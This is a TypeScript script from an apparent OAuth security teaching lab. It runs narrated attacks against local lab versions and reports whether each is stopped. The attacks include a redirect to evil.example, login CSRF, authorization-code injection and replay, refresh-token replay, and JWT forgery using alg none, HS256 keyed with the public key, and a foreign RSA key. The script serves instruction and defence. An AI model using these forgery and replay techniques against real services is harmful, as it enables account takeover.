// npm run attack <name> [version]: run one of the lab's attacks against a version, narrated
// step by step, and say whether it worked. Without a version, it runs against the version
// before the fix and the version with it, so an instructor can show both in one go.
// Everything runs in this process on 127.0.0.1, on free ports: no running lab is touched.

import {
  decodeJwt,
  decodeProtectedHeader,
  exportSPKI,
  generateKeyPair,
  importJWK,
  SignJWT,
  type JWK,
} from 'jose';
import request from 'supertest';
import type { RunningLab } from '../shared/lab.ts';
import { apiGet, apiUrl } from './lib/api.ts';
import { Browser } from './lib/browser.ts';
import { authorizeUrl, loggedInBrowser, runFlow } from './lib/flow.ts';
import { startVersion } from './lib/lab.ts';
import { naiveValidate } from './lib/naive-validator.ts';
import { asState, clientTokens, storedAccessToken } from './lib/state.ts';
import { codeForm, freshCode, postRefresh, postToken, tokensFor } from './lib/token.ts';
import { findVersion, listVersions } from './versions.mjs';

interface Attack {
  /** The first version that stops it. */
  fixedIn: string;
  summary: string;
  /**
   * Runs the attack, narrating with say(): true when the attacker got what they wanted,
   * 'n/a' when the version lacks what the attack targets (no token endpoint yet, say).
   */
  run(lab: RunningLab<'as' | 'client'>, say: (line: string) => void): Promise<boolean | 'n/a'>;
}

const attacks: Record<string, Attack> = {
  'open-redirect': {
    fixedIn: 'v01',
    summary: 'make the AS redirect a user (with a code) to the attacker’s site',
    async run(lab, say) {
      const victim = await loggedInBrowser(lab);
      const url = authorizeUrl(lab, { redirect_uri: 'http://evil.example/callback' });
      say(`The attacker sends the victim a link to the real AS:\n    ${url}`);
      const page = await victim.get(url);
      say(
        `The AS answers ${page.status}${page.location ? ` → ${page.location}` : ' with a page of its own'}.`,
      );
      return page.location?.startsWith('http://evil.example') ?? false;
    },
  },
  'login-csrf': {
    fixedIn: 'v02',
    summary: 'slip the attacker’s own authorization code into the victim’s session',
    async run(lab, say) {
      const attacker = await runFlow(lab, { username: 'user1', land: false });
      say(
        `The attacker logs in as user1 and stops before the callback:\n    ${attacker.authorizationResponse.location}`,
      );
      const victim = new Browser();
      const page = await victim.get(attacker.authorizationResponse.location!);
      say(
        `The victim's browser opens that link (a link, an <img>): the client answers ${page.status}.`,
      );
      if (page.text.includes('Callback refused'))
        say('The client refuses it: this browser never started that login.');
      return page.status === 200;
    },
  },
  'login-csrf-as': {
    fixedIn: 'v02',
    summary: 'log the victim into the AS as the attacker, with a form posted from another site',
    async run(lab, say) {
      const victim = new Browser();
      const posted = await victim.post(`${lab.urls.as}/login`, {
        username: 'user1',
        password: 'password1',
      });
      say(
        'A page on another site (another localhost port will do) auto-posts the AS login form ' +
          `in the victim's browser, with the attacker's password: the AS answers ${posted.status}.`,
      );
      if (posted.status === 403) say('The AS refuses it: the post did not carry the form’s token.');
      const flow = await runFlow(lab, { browser: victim, username: 'user0', land: false });
      const code = flow.params.get('code')!;
      const codeIsFor = (await asState(lab)).codes[code]?.username;
      say(
        `Later the victim clicks Log in at the client, as user0 if asked: the code is for ${codeIsFor}.`,
      );
      return codeIsFor === 'user1';
    },
  },
  'code-injection': {
    fixedIn: 'v03',
    summary: 'inject a stolen code into the attacker’s own flow at the real client',
    async run(lab, say) {
      const victim = await runFlow(lab, { username: 'user0', land: false });
      const stolen = victim.params.get('code')!;
      say(`The attacker steals the victim's code from a log or a Referer: ${stolen}`);
      const attacker = await runFlow(lab, { username: 'user1', land: false });
      const callback = new URL(attacker.authorizationResponse.location!);
      callback.searchParams.set('code', stolen);
      say(
        'The attacker starts a login of their own and swaps the stolen code into their callback.',
      );
      const page = await attacker.browser.get(callback.href);
      const accepted = page.status === 200;
      say(
        accepted
          ? 'The client accepts it: its state matches, because it is the attacker’s own flow.'
          : 'The client redeems it with the attacker’s PKCE verifier, and the AS refuses: invalid_grant.',
      );
      return accepted;
    },
  },
  'code-replay': {
    fixedIn: 'v03',
    summary: 'redeem an already-used code a second time',
    async run(lab, say) {
      const code = await freshCode(lab);
      const first = await postToken(lab, codeForm(lab, code));
      if (first.status === 404) {
        say('This version has no token endpoint: nothing redeems codes yet.');
        return 'n/a';
      }
      say(`The client redeems the code: ${first.status}.`);
      const second = await postToken(lab, codeForm(lab, code));
      say(`Someone redeems the same code again: ${second.status} ${JSON.stringify(second.body)}`);
      if (second.status !== 200 && first.status === 200) {
        const stillThere = await storedAccessToken(lab, first.body.access_token);
        say(`The first access token ${stillThere ? 'still works' : 'is revoked too'}.`);
      }
      return second.status === 200;
    },
  },
  'no-token': {
    fixedIn: 'v04',
    summary: 'read a user’s notes without a token, or with a made-up one',
    async run(lab, say) {
      const bare = await request(apiUrl(lab)).get('/api/notes');
      if (bare.status === 404) {
        say('This version has no API yet: the token opens nothing.');
        return 'n/a';
      }
      say(
        `GET /api/notes without a token: ${bare.status} ${bare.headers['www-authenticate'] ?? ''}`,
      );
      const forged = await apiGet(lab, '/api/notes', 'forged');
      say(
        `GET /api/notes with a made-up token: ${forged.status} ${forged.headers['www-authenticate'] ?? ''}`,
      );
      return bare.status === 200 || forged.status === 200;
    },
  },
  'refresh-replay': {
    fixedIn: 'v05',
    summary: 'keep using a stolen token after the victim noticed nothing',
    async run(lab, say) {
      const { browser } = await runFlow(lab);
      const tokens = await clientTokens(lab, browser);
      if (!tokens.refresh_token) {
        say('There are no refresh tokens: the thief copies the access token instead.');
        const use = await apiGet(lab, '/api/me', tokens.access_token);
        say(
          `The thief calls the API with it: ${use.status}. It works until it expires, and nothing can revoke it.`,
        );
        return use.status === 200;
      }
      const thief = await postRefresh(lab, tokens.refresh_token);
      say(`The thief uses the stolen refresh token: ${thief.status}, a fresh pair.`);
      const client = await postRefresh(lab, tokens.refresh_token);
      say(
        `The real client refreshes with the same token: ${client.status} ${client.body.error ?? ''}`,
      );
      const after = await apiGet(lab, '/api/me', thief.body.access_token);
      say(`The thief's new access token now: ${after.status}. The whole family is revoked.`);
      return after.status === 200;
    },
  },
  'jwt-forgery': {
    fixedIn: 'v06',
    summary: 'forge a JWT access token: alg none, HS256 with the public key, another key',
    async run(lab, say) {
      const rs = (lab.urls as Record<string, string>).rs;
      if (!rs) {
        say('Access tokens are opaque here: only the AS, which keeps them, knows what they mean.');
        say('Forging one means guessing 256 random bits. The danger comes with JWTs (v06).');
        return 'n/a';
      }
      const real = (await tokensFor(lab, { scope: 'profile' })).access_token;
      const header = decodeProtectedHeader(real);
      const claims = { ...decodeJwt(real), sub: 'user1' }; // someone else's identity
      say(`The attacker holds a real token of user0's and rewrites it to say sub=user1.`);
      const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
      const jwks = (await (await fetch(`${lab.urls.as}/jwks.json`)).json()) as { keys: JWK[] };
      const publicKey = await importJWK(jwks.keys[0]!, 'RS256', { extractable: true });
      const pem = await exportSPKI(publicKey as Parameters<typeof exportSPKI>[0]);
      const { privateKey } = await generateKeyPair('RS256');
      const forgeries: Array<[string, string]> = [
        ['alg: none, no signature', `${part({ alg: 'none', typ: 'at+jwt' })}.${part(claims)}.`],
        [
          'HS256, keyed with the AS’s public key',
          await new SignJWT(claims)
            .setProtectedHeader({ alg: 'HS256', typ: 'at+jwt', kid: header.kid! })
            .sign(new TextEncoder().encode(pem)),
        ],
        [
          'RS256, signed with the attacker’s own key',
          await new SignJWT(claims)
            .setProtectedHeader({ alg: 'RS256', typ: 'at+jwt', kid: header.kid! })
            .sign(privateKey),
        ],
      ];
      let accepted = false;
      for (const [how, forged] of forgeries) {
        const naive = naiveValidate(forged, 'profile') ? 'accepts it' : 'refuses it';
        const answer = await apiGet(lab, '/api/me', forged);
        say(
          `${how}: a decode-only validator ${naive}; the resource server answers ${answer.status} ${answer.body.error_description ?? JSON.stringify(answer.body)}`,
        );
        accepted ||= answer.status === 200;
      }
      return accepted;
    },
  },
};

const [name, requested] = process.argv.slice(2);
const attack = name ? attacks[name] : undefined;
if (!attack) {
  console.error(
    'Usage: npm run attack <name> [version]\n\nAttacks, and the version that stops each:',
  );
  for (const [key, { fixedIn, summary }] of Object.entries(attacks)) {
    console.error(`  ${key.padEnd(15)} ${fixedIn}  ${summary}`);
  }
  process.exit(name ? 1 : 0);
}

const fixNumber = Number(attack.fixedIn.slice(1));
const versions = requested
  ? [findVersion(requested)]
  : [fixNumber - 1, fixNumber].map((n) => findVersion(`v${n}`)).filter(Boolean);
if (versions.some((version) => !version)) {
  console.error(
    `There is no version called "${requested}". Versions: ${listVersions().join(', ')}`,
  );
  process.exit(1);
}

for (const version of versions as string[]) {
  console.log(`\n== ${name} against ${version}`);
  const lab = await startVersion(version);
  try {
    const worked = await attack.run(lab, (line) => console.log(`  ${line}`));
    console.log(
      worked === 'n/a'
        ? `  – nothing to attack in ${version}`
        : worked
          ? `  ✗ ATTACK WORKED against ${version}`
          : `  ✓ attack stopped by ${version}`,
    );
  } finally {
    await lab.close();
  }
}
